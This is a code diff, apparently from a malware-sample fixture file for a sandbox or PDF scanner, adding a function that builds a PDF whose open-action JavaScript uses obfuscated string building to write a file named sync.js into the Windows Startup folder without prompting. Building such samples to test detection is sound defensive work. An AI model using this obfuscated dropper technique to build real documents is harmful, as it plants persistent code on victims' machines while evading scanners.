@@ -40,6 +40,19 @@ export function loopAndFormPdf(): Uint8Array {
   return b.build();
 }
 
+/**
+ * A dropper whose write the text does not show: the API's name joined at run time and the Startup
+ * path decoded from character codes, so only the sandbox sees `this.saveAs` and where it writes.
+ */
+export function hiddenDropperPdf(): Uint8Array {
+  const path = "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/sync.js";
+  const codes = Array.from(path, (c) => c.charCodeAt(0)).join(",");
+  const script = `var p = String.fromCharCode(${codes}); var m = "sa" + "veAs"; this[m]({ cPath: p, bPromptToOverwrite: false });`;
+  const b = new PdfBuilder();
+  b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString(script)} >>`, 1);
+  return b.build();
+}
+
 /** An XFA form whose initialize script sets a TIFF image and keep.previous. */
 export function xfaExploitPdf(): Uint8Array {
   const b = new PdfBuilder();
